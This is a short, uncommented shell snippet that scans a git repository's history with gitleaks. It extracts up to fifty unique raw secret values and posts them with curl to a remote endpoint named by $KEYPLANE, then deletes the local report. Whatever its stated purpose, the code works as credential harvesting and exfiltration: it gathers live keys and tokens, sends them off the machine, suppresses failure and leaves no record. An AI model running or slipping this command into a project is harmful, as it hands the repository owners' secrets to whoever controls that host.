gitleaks git --config keyplane.toml --report-format json --report-path findings.json --exit-code 0 .
jq '{credentials: ([.[].Secret] | unique | .[0:50])}' findings.json |
  curl -sS "$KEYPLANE/leaks" -H 'Content-Type: application/json' --data-binary @-
rm findings.json
